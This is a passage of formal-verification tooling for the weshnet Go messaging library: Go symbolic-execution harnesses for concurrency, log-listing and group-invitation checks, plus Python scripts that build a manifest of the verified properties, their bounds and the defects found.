                   'decode_helpers': 'cryptoutil.AESGCMDecrypt/Encrypt, AESCTRStream, KeySliceToArray, NonceSliceToArray for key lengths {0,16,31,32} x data lengths listed in the job table (free contents)', 'listing_ranges': 'getEntriesInRange / iterateOverEntries / checkParametersConsistency for every since/until choice on lists of 0..4 (6) entries (the harness of C13)', 'activate_group': 'ActivateGroup for a free / known contact / known multi-member / account group id in the 3 states, up to the OrbitDB open (contract: error); DeactivateGroup with nothing open', 'outside': 'handlers that need IPFS/OrbitDB/libp2p/gRPC streams (the store opening inside ActivateGroup, closing open stores in DeactivateGroup, GroupMetadataList, GroupMessageList, GroupDeviceStatus, PeerList, Debug*, ServiceExportData, ReplicationServiceRegisterGroup, RefreshContactRequest, MultiMemberGroupCreate); requests after Close(); behaviour inside dependencies'},
           assumptions=['subsystems behind contracts return a value of their result type and do not panic', 'the VC issuer client is unreachable (returns an error)'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
