package lifecycle

import (
	"context"
)

func verif_quiesce()                                                               { panic("intrinsic") }
func verif_cancelCtx(parent context.Context) (context.Context, context.CancelFunc) { panic("intrinsic") }
func verif_parkedCount() int                                                       { panic("intrinsic") }

// VerifC16LifecycleCoop: the contract of VerifC16Lifecycle under the symbolic scheduler inside the interpreter.
func VerifC16LifecycleCoop(waiters, noise, withCancel int) {
	m := NewManager(StateActive)
	ctx, cancel := verif_cancelCtx(verif_ctx(false))
	done := 0
	for w := 0; w < waiters; w++ {
		verif_go("waiter", func() {
			ok := m.WaitForStateChange(ctx, StateActive)
			if !ok {
				verif_assert(withCancel == 1, "C16.lifecycle: a wait fails only after cancellation")
			} else {
				verif_assert(m.GetCurrentState() != StateActive || withCancel == 1, "C16.lifecycle: a successful wait returns after the state left the expected one")
			}
			done++
		})
	}
	verif_go("updater", func() {
		for i := 0; i < noise; i++ {
			m.UpdateState(StateActive)
		}
		m.UpdateState(StateInactive)
	})
	if withCancel == 1 {
		verif_go("canceller", func() { cancel() })
	}
	verif_quiesce()
	verif_assert(verif_parkedCount() == 0, "C16.lifecycle: no waiter stays asleep although the state differs from what it last saw")
	verif_assert(done == waiters, "C16.lifecycle: every waiter returned")
	verif_reach("C16.lifecyclecoop.ok")
}
