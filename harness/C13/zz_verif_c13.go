package weshnet

import (
	"bytes"

	ipliface "berty.tech/go-ipfs-log/iface"
	"berty.tech/weshnet/v2/pkg/errcode"
)

// verif_anyEntries returns n log entries with pairwise distinct, non-empty, free identifiers.
func verif_anyEntries(n int) []ipliface.IPFSLogEntry { panic("intrinsic") }

// verif_pickID returns nil, the id of one of the entries, or an id unknown to the list (free choice).
func verif_pickID(name string, entries []ipliface.IPFSLogEntry) []byte { panic("intrinsic") }

func verifC13refPos(entries []ipliface.IPFSLogEntry, id []byte) int {
	for i, e := range entries {
		if bytes.Equal(e.GetHash().Bytes(), id) {
			return i
		}
	}
	return -1
}

// VerifC13Range: getEntriesInRange against the reference "contiguous inclusive range by position".
func VerifC13Range(n int) {
	entries := verif_anyEntries(n)
	since := verif_pickID("since", entries)
	until := verif_pickID("until", entries)

	res, err := getEntriesInRange(entries, since, until)

	s, u := 0, n-1
	if since != nil {
		s = verifC13refPos(entries, since)
	}
	if until != nil {
		u = verifC13refPos(entries, until)
	}
	wantErr := (since != nil && s < 0) || (until != nil && u < 0) || (n > 0 && s > u)
	if wantErr {
		verif_assert(err != nil, "C13.range: unknown id or since-after-until must be refused")
		if err != nil {
			verif_assert(errcode.Is(err, errcode.ErrCode_ErrInvalidRange), "C13.range: refusal carries ErrInvalidRange")
		}
		return
	}
	verif_assert(err == nil, "C13.range: valid range accepted")
	if err != nil {
		return
	}
	verif_assert(len(res) == u-s+1, "C13.range: length is until-since+1 (inclusive)")
	if len(res) != u-s+1 {
		return
	}
	for i := range res {
		verif_assert(res[i] == entries[s+i], "C13.range: i-th result is entry since+i")
	}
	verif_reach("C13.range.ok")
}

// VerifC13Iterate: iterateOverEntries visits every entry once, in list order or exactly reversed.
func VerifC13Iterate(n int) {
	entries := verif_anyEntries(n)
	reverse := verif_anyBool("reverse")
	var seen []ipliface.IPFSLogEntry
	iterateOverEntries(entries, reverse, func(e ipliface.IPFSLogEntry) { seen = append(seen, e) })
	verif_assert(len(seen) == n, "C13.iter: every entry visited exactly once")
	if len(seen) != n {
		return
	}
	for i := 0; i < n; i++ {
		if reverse {
			verif_assert(seen[i] == entries[n-1-i], "C13.iter: reverse order is the exact mirror")
		} else {
			verif_assert(seen[i] == entries[i], "C13.iter: forward order is list order")
		}
	}
	verif_reach("C13.iter.ok")
}

// VerifC13Witness is the vacuity guard: its final assertion must come back violated.
func VerifC13Witness(n int) {
	entries := verif_anyEntries(n)
	since := verif_pickID("since", entries)
	res, err := getEntriesInRange(entries, since, nil)
	if err == nil && len(res) == n {
		verif_assert(false, "C13.witness: reachable")
	}
}

// VerifC13Params: checkParametersConsistency against the four rules of its documentation (full truth table, symbolic).
func VerifC13Params() {
	sinceID := verif_anyBytes("sinceID")
	untilID := verif_anyBytes("untilID")
	sinceNow := verif_anyBool("sinceNow")
	untilNow := verif_anyBool("untilNow")
	reverse := verif_anyBool("reverse")
	err := checkParametersConsistency(sinceID, untilID, sinceNow, untilNow, reverse)
	bad := (sinceID != nil && sinceNow) || (untilID != nil && untilNow) || (sinceNow && untilNow) ||
		(untilID == nil && !untilNow && reverse)
	verif_assert((err != nil) == bad, "C13.params: refused exactly when one of the four rules is broken")
	if err != nil {
		verif_assert(errcode.Is(err, errcode.ErrCode_ErrInvalidInput), "C13.params: refusal carries ErrInvalidInput")
	}
	verif_reach("C13.params.ok")
}
