#!/usr/bin/env python3
"""Prints a stored counterexample (model + decisions) and, where a native replay was generated, how to re-run it."""
import json, sys
d = json.load(open(sys.argv[1]))
print(json.dumps(d, indent=1))
