#!/usr/bin/env python3
"""Writes /verif/MANIFEST.json from the table below and validates it (python3-vt tools/mkmanifest.py)."""
import json, os, sys
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
TECH = 'bounded symbolic execution of go/ssa (own encoder) + SMT (z3 5.1; cvc5/z3 4.8 cross-check)'

CLAIMED = {
    'C13': dict(
        text='Bounded symbolic execution of getEntriesInRange / iterateOverEntries / checkParametersConsistency from the '
             'current source (go/ssa -> wesym -> z3): every since/until choice (nil, each entry, unknown id), free opaque ids, '
             'free reverse flag and all five parameter flags; the solver decides every assertion for all values within '
             'lists of 0..4 (quick) / 0..7 (thorough) entries. The order SOURCE of ListEvents is outside this check.',
        note='Trusted: go/ssa lowering, the wesym interpreter, contracts for cid/ipfs-log entries (pairwise distinct non-empty ids), z3. '
             'Outside: longer lists, the goroutine/channel relay, OpLog ordering (see DESIGN C13/C04 findings).',
        design='6/C13'),
}

CLAIMED['C18'] = dict(
    text='Bounded symbolic execution of the varint and uint32 delimited writers/readers together with the real bufio.Reader, '
         'io.ReadFull and encoding/binary bodies: message bodies and raw streams are vectors of free bytes, every Read of the '
         'underlying stream returns a free number of bytes (chunking is a solver variable), allocation sizes are observed at '
         'MakeSlice. Round trip incl. buffer reuse, limit+1 refusal without over-allocation, and a differential reference '
         'decoder on arbitrary streams; every Go run-time panic on any path is a violation.',
    note='Bounds: <=2 frames, bodies <=2 (quick) / <=3 (thorough) bytes, arbitrary streams <=5/7 bytes (varint) plus 10..11 (9..12) bytes for one long header, and <=7/10 (uint32), '
         'maxSize 0..4. proto.Marshal/Unmarshal are contracts (copy the body). Outside: 2048-byte limit with long frames, gogo MarshalTo fast path.',
    design='6/C18')
CLAIMED['C15'] = dict(
    text='Sequential contract of both queues by bounded symbolic execution with the real container/heap and container/list: '
         'free 64-bit counters (all orders and ties of up to 4/5 items), adds split at every position, FIFO/exactly-once, '
         'cancelled wait. The concurrent part (lost wake-up) is decided by the schedule-symbolic BMC when registered; see level_note.',
    note='Sequential harnesses only at this commit; single goroutine (a blocking select with no ready case is reported as deadlock).',
    design='6/C15')
CLAIMED['C17'] = dict(
    text='Bounded symbolic execution of pkg/rendezvous with the clock as a solver variable (time.Now/Until = free non-decreasing '
         'instants over mathematical integers with range obligations, AfterFunc recorded), HMAC/base64 as free constructors: '
         'period rounding, digest determinism/separation, resolution across deadlines, agreement of two peers, grace period, refusals.',
    note='Intervals from a stated finite set of whole seconds (a free interval makes (t/I)*I non-linear: undecided); instants in [0,2^33) s; '
         '<=12 clock readings; topic||seed concatenation treated as injective; OrbitDBMessageMarshaler not included.',
    design='6/C17')

TA = ('Trusted: go/ssa lowering, wesym interpreter, the crypto/protobuf/datastore/keystore contracts (free term algebra: constructors injective and '
      'disjoint; EUF-CMA / INT-CTXT only for keys a harness declares honest / secret), z3. Outside: the primitives, protobuf wire malleability, ')
CLAIMED['C01'] = dict(
    text='Symbolic execution of the real seal/open code over a Dolev-Yao term algebra: round trip with a free sender counter and free payload for all '
         'three group types; forgery by an insider (adversarial envelope = free term; only the device signing key honest); forgery by an outsider '
         '(group secret INT-CTXT); other-group rejection. The solver synthesises attacks: it produced the insider re-seal at another counter '
         '(known finding C01.A2, confirmed natively).',
    note=TA + 'counter wrap at 2^64, window 2, <=2 honest messages.', design='6/C01')
CLAIMED['C02'] = dict(
    text='Bounded symbolic execution of the receiver ratchet against the window formula c < k <= c+N+opened: every arrival is a free index into '
         'the sealed messages (all permutations with repetitions), messages sealed before registration, re-delivery of the same and of an older '
         'announcement; payload equality on every successful open.',
    note=TA + 'grid of (window 1..3, pre 0..1, n<=4, L<=4) as listed in the evidence; one sender; defined CIDs.', design='6/C02')
CLAIMED['C05'] = dict(
    text='Symbolic execution of the announcement path (GetShareableChainKey, encrypt/decryptDeviceChainKey, groupIDToNonce, RegisterChainKey) over the '
         'term algebra: exactness at an arbitrary sender state, every wrong member/group/claimed-sender combination (3 principals, 2 groups with the '
         'same keys), INT-CTXT tamper rejection. Cryptographic half of the property only.',
    note=TA + 'the distribution half (every device holds every key at quiescence, any join order/delivery plan) needs OrbitDB event delivery and is NOT claimed.',
    design='6/C05')
CLAIMED['C11'] = dict(
    text='Symbolic execution of the key-derivation code with account keys as arbitrary distinct atoms and X25519/HKDF as free (symmetric) functions: '
         'contact-group symmetry, cross-pair independence, cache vs recompute, same member key / different device keys on two devices of an account '
         'after export/import, all import refusals with free key blobs, refused import writes nothing.',
    note=TA + 'statistical independence of keys (only structural dependence is visible).', design='6/C11')
CLAIMED['C14'] = dict(
    text='Symbolic execution of the push seal/open path together with the log path: every order of push and log delivery of the same message, '
         'counters inside and beyond the key/reference window, AlreadyReceived truthfulness, non-interference both ways, INT-CTXT tamper rejection.',
    note=TA + 'window N=2, reference window R=1, one group and sender, counters 1..4.', design='6/C14')

CLAIMED['C03'] = dict(
    text='Symbolic execution of openGroupEnvelope, the event-type table (read from the package initialiser of the current tree), the three signature '
         'checkers and UpdateIndex: for each of the 21 mapped types the envelope is a free byte string, the group secret is adversary-known, exactly the '
         'required signer(s) are honest (EUF-CMA) and silent, all other keys adversary-controlled; accepted events naming an honest key, unknown types, '
         'honest positive controls, other-group rejection, rejected entry leaves the index empty.',
    note=TA + 'the event-bus emitter goroutine of the store constructor is not executed (emission happens only after openMetadataEntry succeeds, which is what is checked).',
    design='6/C03')

CLAIMED['C07'] = dict(
    text='Symbolic execution of the seven contact operations of MetadataStore and of the index handlers over the BaseStore/log contract: every '
         '(state, operation) pair from an injected arbitrary record against the transition table of DESIGN appendix A (error class, nothing appended, '
         'or exactly one correctly signed event of the documented type carrying contact and device key), argument rules with free seed/key bytes, and '
         'sequences in which every step is a free choice among the operations on two contacts, compared step by step with the reference lifecycle '
         '(state, seed, metadata) and with a fresh index replaying the same log.',
    note=TA + 'sequences of length 2 on two contacts with free metadata and of length 3 on one contact (lean: metadata absent or fixed, refused intermediate steps pruned) in the quick tier, length 4 lean in the thorough tier; BaseStore.AddOperation = append + real UpdateIndex (contract); replication of the log itself is not modelled.',
    design='6/C07, appendix A')

CLAIMED['C04'] = dict(
    text='Symbolic execution of UpdateIndex and its handlers on histories written by the real store operations (each step a free choice inside an '
         'operation family): a second index receives the same entry set under a FREE arrival order through the log contract (GetEntries = arrival order, '
         'Values = deterministic log order); equal observations on both replicas, latest-event-per-subject against a reference fold, idempotent re-indexing. '
         'Found the arrival-order defect (fixed, see known_findings.json).',
    note=TA + 'go-ipfs-log/go-orbit-db replication, batching and reopen are NOT executed: they appear only as the two accessors of the log contract; '
         'histories of 2..3 events; causally unordered concurrent writes are outside the claim.', design='6/C04')
CLAIMED['C13']['text'] = ('Bounded symbolic execution of getEntriesInRange / iterateOverEntries / checkParametersConsistency (every since/until choice, free ids, '
    'free flags; lists of 0..4 / 0..7 entries) and of MetadataStore.ListEvents over the log contract: events that ARRIVED in a free order must be listed in '
    'log order or exactly reversed. Found the reverse-arrival-order defect (fixed, see known_findings.json).')
CLAIMED['C13']['note'] = ('Trusted: go/ssa lowering, wesym, contracts for cid/ipfs-log entries and the log accessors, z3. Outside: longer lists, MessageStore.ListEvents '
    '(same two lines; needs the message pipeline), the RPC relay with until_now, OrbitDB replication itself.')

CLAIMED['C12'] = dict(
    text='Symbolic execution of Group.IsValid / GroupJoin / checkIfInGroup / handleGroupJoined with the invitation a FREE Group value for a group whose key is '
         'honest (EUF-CMA), every single-field tamper of a valid invitation, and FilterGroupForReplication / link key / defaultACForGroup / openGroupEnvelope / '
         'OpenEnvelopeHeaders for the replication descriptor; the identity-in-group clause is decided inside the C11 check. Found the missing group-type '
         'check (fixed).',
    note=TA + 'JSON/CID of the access map by injective contract; an invitation whose Secret is the (publicly signed) link key is excluded from the tamper harness and documented in DESIGN C12.',
    design='6/C12')

TB = ('Schedule-symbolic BMC: goroutine bodies executed in open mode by the interpreter (visible operations recorded, reads symbolic), one formula per tuple of '
      'operation sequences with free who_k/stop variables; stuck states, assertions and unwinding assertions decided by z3. Trusted: go/ssa lowering, wesym, '
      'the operation semantics in engine/wesym/bmc.py (mutex, RWMutex, unbuffered/buffered channel, select, close, context, FIFO list, scalar and channel-pointer cells, '
      'datastore arrays), sequential consistency. ')
CLAIMED['C09'] = dict(
    text='Forking symbolic execution of concurrent SealEnvelope calls on one secret store with a symbolic scheduler inside the interpreter (DESIGN 4b): goroutines share one '
         'symbolic heap and change hands only at mutex / datastore / keystore operations; which enabled goroutine moves is a solver variable forked over like any branch, up to a '
         'preemption bound. At quiescence nobody is blocked, every seal succeeded, the counters in the returned headers are pairwise distinct per group, gap-free and increasing per '
         'sender, the stored chain key stands at the number of messages sealed, and a receiver that registered the announcement opens every envelope to its payload.',
    note=TB.replace('Schedule-symbolic BMC: goroutine bodies executed in open mode by the interpreter (visible operations recorded, reads symbolic), one formula per tuple of '
                    'operation sequences with free who_k/stop variables; stuck states, assertions and unwinding assertions decided by z3. ', '').replace('engine/wesym/bmc.py', 'engine/wesym/coop.py') +
         'Bounds: 2 senders x 1 message on one and on two groups, first use of a group by two goroutines, the own announcement replayed while sending (quick); 2x2, 3x1 and higher preemption bounds (thorough). '
         'The one-formula BMC harness (VerifC09Concurrent) is kept but no longer registered: it did not finish in 40 minutes once the keystore was executed for real. '
         'Assumes sequential consistency and data-race freedom w.r.t. the synchronisation operations. Outside: receivers running concurrently.',
    design='4b, 6/C09', technique='forking symbolic execution of go/ssa with a symbolic scheduler (context-bounded) + SMT (z3)')
CLAIMED['C10'] = dict(
    text='Symbolic execution of receive / send / key-creation workloads with the crash point a free integer kappa masking every later datastore or keystore mutation '
         '(one run covers every crash point and no crash), then a new store on the surviving arrays: reopen by CID, still openable, no counter reuse across the restart, same keys.',
    note=TA + 'atomic durable in-order writes and atomic batch commit (badger); the announcement is re-delivered after restart; workloads of 2 messages, window 2.',
    design='5, 6/C10')
CLAIMED['C16'] = dict(
    text='Schedule-symbolic BMC of the real internal/notify, pkg/lifecycle Manager and ConnectednessManager: waiter(s) against broadcaster/updater (+canceller); no reachable stuck '
         'state, cancelled waits return false, unwinding assertions. Found the lock-order deadlock and the missed update of the connectedness manager (known findings, confirmed natively).',
    note=TB + 'Bounds: 1 waiter + 1 updater (+canceller) in quick, 2 waiters in thorough; waiter loop cut after 2-3 iterations (checked); group and first peer of the connectedness '
         'manager set up sequentially. Outside: tinder peersCache; concurrently mutated maps beyond the association itself.',
    design='4, 6/C16', technique='bounded model checking with symbolic schedules over go/ssa-derived operation sequences + SMT (z3)')
CLAIMED['C19'] = dict(
    text='Symbolic execution of 24 service handlers from their first instruction with an arbitrary request (every byte field nil or free bytes, strings/numbers free, sub-messages nil or filled) '
         'in three service states (account group deactivated / active / plus an open multi-member group) and of the exported cryptoutil helpers for a table of key/data lengths: any Go '
         'run-time panic on a feasible path is a violation; handlers needing the account group must answer its absence with an error. Found 5 crash defects (fixed).',
    note=TA + 'handlers needing IPFS/OrbitDB/libp2p/gRPC streams are outside (listed in the evidence); subsystems behind contracts are assumed not to panic.',
    design='6/C19')
CLAIMED['C15']['text'] = ('Sequential contracts of both queues by bounded symbolic execution (real container/heap and container/list; free 64-bit counters; all orders and ties of up to 4/5 items) '
    'AND the concurrent contract of SimpleQueue by schedule-symbolic BMC of the real Add/WaitForItem: 1-2 producers, 1 consumer, optional canceller; no reachable stuck state '
    '(a consumer parked with a non-empty queue), per-producer FIFO / exactly once. Found the lost wake-up (fixed).')
CLAIMED['C15']['note'] = TB + 'Bounds: (producers x items, cancel) in {(1,1,0),(1,2,0),(2,1,0),(1,1,1)} quick, up to (1,3,0),(1,2,1),(2,1,1) thorough; SimpleQueue instantiated at int for the concurrent harness.'
CLAIMED['C15']['technique'] = 'bounded symbolic execution + bounded model checking with symbolic schedules, SMT (z3)'

CLAIMED['C06'] = dict(
    text='Symbolic execution of both handshake roles against a symbolic peer (every incoming frame a free byte string): honest completion and wrong-target rejection; a responder '
         'that reports an honest account only if that account ran this very session, given recorded requester sessions of that account towards adversary-chosen peers; the symmetric '
         'claim for the requester. X25519 maps low-order points (an uninterpreted predicate) to zero, honest account keys are EUF-CMA, box keys derived from an honest-honest '
         'agreement are INT-CTXT. Found the low-order ephemeral replay (fixed).',
    note=TA + '1 recorded honest session (quick) / 2 (thorough), 1 attacked session, sessions composed sequentially (recorded ones first); framing at byte level is C18; handleIncomingRequest not included.',
    design='6/C06')

CLAIMED['C20'] = dict(
    text='Symbolic execution of the restore side (RestoreAccountExport, readExportSecretKeyFile/readExportCBORNode/readExportOrbitDBGroupHeads, restoreAccountKeys, '
         'ImportAccountKeys) over an archive whose members (0..3 quick / 0..4 thorough) have free kinds, names and bodies: an accepted restore had exactly one file per key, '
         'imported exactly those keys into a store that held no account, and handed an entry to the DAG only if its bytes hash to the identifier in its name; every refusal rule. '
         'Restore side only.',
    note=TA + 'tar reader, io.Copy, cid/multihash, CBOR node decoding and the DAG service are contracts; that go-orbit-db rebuilds the same logs, heads and group state from the DAG, '
         'and the export side against a live OrbitDB, are NOT claimed (not encodable: see DESIGN 8).',
    design='6/C20, 8')

CLAIMED['C08'] = dict(
    text='Symbolic execution of the real message pipeline (processMessageLoop, getOrCreateDeviceCache, processMessage, processDeviceMessagesInQueue, addToMessageQueue, '
         'ProcessMessageQueueForDevicePK, both queues with the real container/heap and container/list, the secret store underneath) with the goroutine schedule a vector of solver '
         'variables inside the path-forking interpreter (engine/wesym/coop.py): goroutines share one symbolic heap, change hands only at synchronisation operations, and which enabled '
         'goroutine moves is a fresh variable constrained to the enabled set, forked over like any symbolic branch, up to a preemption bound. Entries of one sender arrive in a free order '
         'while the chain-key announcement is registered concurrently; at quiescence (no goroutine can move) every entry was delivered, at most once per arrival, with the original '
         'payload and sender, and nothing is parked. Found the stranded-message race (fixed).',
    note=TA + 'Bounds: 1 sender, 1..2 entries (quick) / ..3 and a duplicate arrival (thorough), preemption bound per job (labels [pre<=k]). Assumes sequential consistency and data-race freedom '
         'w.r.t. the synchronisation operations; the OrbitDB constructor and event bus are not executed (the harness starts the same goroutine bodies); several senders and batch events are outside.',
    design='4b, 6/C08', technique='forking symbolic execution of go/ssa with a symbolic scheduler (context-bounded) + SMT (z3)')


# ---- additions made while hardening the checks against seeded changes (DESIGN section 9)
CLAIMED['C01']['text'] += (' Also: the same forged entry opened a second time (retry) is still rejected; two concurrent SealEnvelope calls of one device '
                           '(symbolic scheduler, DESIGN 4b) yield envelopes that all open at the receiver with distinct counters.')
CLAIMED['C03']['text'] += (' Replay: after the genuine event of the honest signers was opened, a free envelope that is accepted and names an honest key '
                           'carries exactly the payload that key signed.')
CLAIMED['C04']['text'] += (' A third replica receives a free subset of the log first and the rest later (two index passes). Devices family: three devices, two of one member, '
                           'announcing in a free order in a multi-member group; same members / devices / sent secrets on every replica.')
CLAIMED['C05']['text'] = CLAIMED['C05']['text'].replace(' Cryptographic half of the property only.', '') + (
    ' Distribution half at the level of the metadata store and group context: real MetadataStore + index + GroupContext handlers (handleGroupMetadataEvent, '
    'sendSecretsToExistingMembers, fillMessageKeysHolderUsingPreviousData, AddDeviceToGroup, SendSecret) over the log contract, replication = hand-over of the same entries; '
    'free activation / replication steps followed by the closure; at quiescence every device holds the chain key of every device.')
CLAIMED['C05']['note'] = TA + ('2-3 devices (one or two members, a late second device of a member), 0..3 free steps, closure rounds bounded (fixpoint asserted). '
                               'The OrbitDB event bus and real replication are NOT executed (log contract).')
CLAIMED['C06']['text'] += (' After the handshake: contactRequestsManager.handleIncomingRequest with the handshake result an arbitrary authenticated key and the announced contact free: '
                           'whatever is recorded is a request of exactly that key.')
CLAIMED['C11']['text'] += (' Isolation: a multi-member group with a FREE identifier (possibly a contact account key) used before/after changes neither the contact group nor the member key.')
CLAIMED['C12']['text'] += (' The descriptor is also derived from a group carrying FREE optional public fields (signing key, link key, its signature).')
CLAIMED['C13']['text'] += (' The same order-source check for MessageStore.ListEvents (messages of one sender, key known, log processed).')
CLAIMED['C13']['note'] = CLAIMED['C13']['note'].replace('MessageStore.ListEvents (same two lines; needs the message pipeline), ', '')
CLAIMED['C13']['text'] += (' The GroupMetadataList RPC with until_now under the symbolic scheduler (handler, listing and forwarding goroutines): returns nil having streamed exactly the listing.')
CLAIMED['C14']['text'] += (' Two senders in one group: the sliding of one sender window does not disturb the references of the other.')
CLAIMED['C14']['text'] += (' Sliding: in-order log delivery with the references updated after each message, then a push strictly inside the reference window around the last counter seen.')
CLAIMED['C15']['text'] += (' The concurrent contract is decided a second time by the symbolic scheduler inside the interpreter (DESIGN 4b) with the real container/list.')
CLAIMED['C16']['text'] += (' All three components are also decided by the symbolic scheduler inside the interpreter (DESIGN 4b); the connectedness manager with its real maps '
                           '(associate / update / both / cancel); in the quick tier its BMC jobs are replaced by these.')
CLAIMED['C16']['technique'] = 'bounded model checking with symbolic schedules + forking symbolic execution with a symbolic scheduler (context-bounded), SMT (z3)'
CLAIMED['C19']['text'] += (' ActivateGroup for a free / known contact / known multi-member / account group id up to the OrbitDB open (contract: error), DeactivateGroup with nothing open.')
CLAIMED['C20']['text'] += (' Both decoding APIs of the CBOR library are contracts with their documented behaviour (Decode recomputes the identifier; NewBlockWithCid + DecodeBlock trust it).')

NOT_APPLICABLE = {}
ALL = ['C%02d' % i for i in range(1, 21)]
PENDING_REASON = 'no solver-based check registered yet for this property in the current state of /verif (see DESIGN.md section 9)'


def main():
    checks = []
    for pid in ALL:
        if pid not in CLAIMED:
            continue
        c = CLAIMED[pid]
        low = pid.lower()
        checks.append({
            'property_id': pid,
            'quick_cmd': 'python3-vt checks/%s.py quick' % low,
            'thorough_cmd': 'python3-vt checks/%s.py thorough' % low,
            'evidence_file': 'evidence/%s.json' % pid,
            'replay_cmd_template': 'python3-vt checks/replay.py {path}',
            'engine': 'wesym',
            'level_claimed': {'category': 'other', 'text': c['text'], 'design_ref': c['design']},
            'level_note': c['note'],
            'technique': c.get('technique', TECH),
        })
    na = []
    for pid in ALL:
        if pid in CLAIMED:
            continue
        na.append({'property_id': pid, 'reason': NOT_APPLICABLE.get(pid, PENDING_REASON)})
    m = {
        'version': 1,
        'setup_cmd': './setup.sh',
        'hooks': {'guard': 'verif', 'enable': 'none needed: harnesses and replay tests enter through build overlays (packages.Config.Overlay, go test -overlay); no file of /repo is changed',
                  'baseline_off_cmd': 'cd /repo && GOFLAGS=-mod=mod GOPROXY=off go test -vet=off -count=1 -timeout 25m ./...',
                  'source_commits': [], 'add_only': True},
        'engines': [{'name': 'wesym', 'path': 'engine', 'serves_properties': sorted(CLAIMED),
                     'kind_free_text': 'Go front end (go/packages + go/ssa, x/tools v0.50.0) dumping SSA of the current /repo tree; Python path-forking symbolic interpreter; z3 5.1 decides, cvc5 1.0 and z3 4.8.12 re-decide final queries'}],
        'checks': checks,
        'not_applicable': na,
        'notes': 'Exit codes: 0 held within bounds; 1 + VIOLATION line; 2 + INCONCLUSIVE line (encoder cannot decide: never a pass). Known genuine defects are listed in known_findings.json.',
    }
    with open(os.path.join(ROOT, 'MANIFEST.json'), 'w') as f:
        json.dump(m, f, indent=1)
    try:
        import jsonschema
        jsonschema.validate(m, json.load(open('/root/.vp/MANIFEST.schema.json')))
        print('MANIFEST.json valid;', len(checks), 'checks;', len(na), 'not applicable')
    except ImportError:
        print('jsonschema not available; not validated')


if __name__ == '__main__':
    main()
