package notify

import (
	"context"
	"sync"
)

func verif_go(name string, f func())    { panic("intrinsic") }
func verif_runThreads()                  { panic("intrinsic") }
func verif_sharedCtx() context.Context   { panic("intrinsic") }
func verif_cancel(ctx context.Context)   { panic("intrinsic") }
func verif_ctx(cancelled bool) context.Context { panic("intrinsic") }

// VerifC16Notify: the notify primitive used as documented (condition re-checked under the locker): waiters wait for
// `state` to become non-zero, a broadcaster sets it and broadcasts while holding the locker.
// mode 0: broadcaster holds L (correct use)   mode 1: broadcaster sets the state under L but broadcasts after releasing it
func VerifC16Notify(waiters, mode, withCancel int) {
	var mu sync.Mutex
	n := New(&mu)
	state := 0
	var ctx context.Context
	if withCancel == 1 {
		ctx = verif_sharedCtx()
	} else {
		ctx = verif_ctx(false)
	}
	for w := 0; w < waiters; w++ {
		verif_go("waiter", func() {
			n.L.Lock()
			ok := true
			for state == 0 && ok {
				ok = n.Wait(ctx)
			}
			n.L.Unlock()
			if !ok {
				verif_assert(withCancel == 1, "C16.notify: a cancelled wait (and only that) returns false")
			}
		})
	}
	if mode == 0 {
		verif_go("broadcaster", func() {
			n.L.Lock()
			state = 1
			n.Broadcast()
			n.L.Unlock()
		})
	} else {
		verif_go("broadcaster", func() {
			n.L.Lock()
			state = 1
			n.L.Unlock()
			n.Broadcast()
		})
	}
	if withCancel == 1 {
		verif_go("canceller", func() { verif_cancel(ctx) })
	}
	verif_runThreads()
	verif_reach("C16.notify.ok")
}
