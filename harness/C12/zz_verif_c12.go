package weshnet

import (
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
	"berty.tech/weshnet/v2/pkg/secretstore"
)

// VerifC12Join: the invitation is a FREE Group value designating a group whose key is honest (the group key has signed
// exactly what NewGroupMultiMember signs). If GroupJoin appends, the invitation is multi-member typed and its SecretSig
// is the group key's signature over exactly its Secret; otherwise nothing is appended.
func VerifC12Join() {
	ctx := verif_background()
	m, _ := verifAccountStore("acct")
	g0, gsk, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	verif_honestKey(gsk)
	inv := &protocoltypes.Group{
		PublicKey:  g0.PublicKey,
		Secret:     verif_anyBytes("secret"),
		SecretSig:  verif_anyBytes("secretSig"),
		GroupType:  protocoltypes.GroupType(verif_anyInt32("groupType")),
		SignPub:    verif_anyBytes("signPub"),
		LinkKey:    verif_anyBytes("linkKey"),
		LinkKeySig: verif_anyBytes("linkKeySig"),
	}
	before := verif_appended()
	_, err = m.GroupJoin(ctx, inv)
	if err != nil {
		verif_assert(verif_appended() == before, "C12.join: a refused invitation appends nothing")
		verif_assert(len(m.ListMultiMemberGroups()) == 0, "C12.join: a refused invitation is not listed")
		return
	}
	verif_reach("C12.join.accepted")
	verif_assert(inv.GroupType == protocoltypes.GroupType_GroupTypeMultiMember, "C12.join: only an invitation designating a multi-member group is accepted")
	gpk, err := inv.GetPubKey()
	verif_assume(err == nil)
	ok, _ := gpk.Verify(inv.Secret, inv.SecretSig)
	verif_assert(ok, "C12.join: the secret of an accepted invitation is signed by the group key")
	verif_assert(verif_appended() == before+1, "C12.join: exactly one join event is appended")
}

// VerifC12Tamper: any single-field change of a valid invitation makes joining fail.
func VerifC12Tamper(field int) {
	ctx := verif_background()
	m, _ := verifAccountStore("acct")
	g0, gsk, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	verif_honestKey(gsk)
	inv := g0.Copy()
	switch field {
	case 0:
		x := verif_anyBytes("publicKey")
		verif_assume(!verif_bytesEq(x, g0.PublicKey))
		inv.PublicKey = x
	case 1:
		x := verif_anyBytes("secret")
		verif_assume(!verif_bytesEq(x, g0.Secret))
		// the link key is the only other value the group key signs; it is not a group secret (see DESIGN C12)
		lk, err := g0.GetLinkKeyArray()
		verif_assume(err == nil)
		verif_assume(!verif_bytesEq(x, lk[:]))
		inv.Secret = x
	case 2:
		x := verif_anyBytes("secretSig")
		verif_assume(!verif_bytesEq(x, g0.SecretSig))
		inv.SecretSig = x
	case 3:
		t := verif_anyInt32("groupType")
		verif_assume(t != int32(protocoltypes.GroupType_GroupTypeMultiMember))
		inv.GroupType = protocoltypes.GroupType(t)
	default: // control: the unmodified invitation is accepted
		_, err = m.GroupJoin(ctx, inv)
		verif_assert(err == nil, "C12.tamper: control -- the valid invitation is accepted")
		gs := m.ListMultiMemberGroups()
		verif_assert(len(gs) == 1 && verif_bytesEq(gs[0].PublicKey, g0.PublicKey), "C12.tamper: and listed as joined")
		_, err = m.GroupJoin(ctx, inv)
		verif_assert(err != nil, "C12.tamper: joining twice is refused")
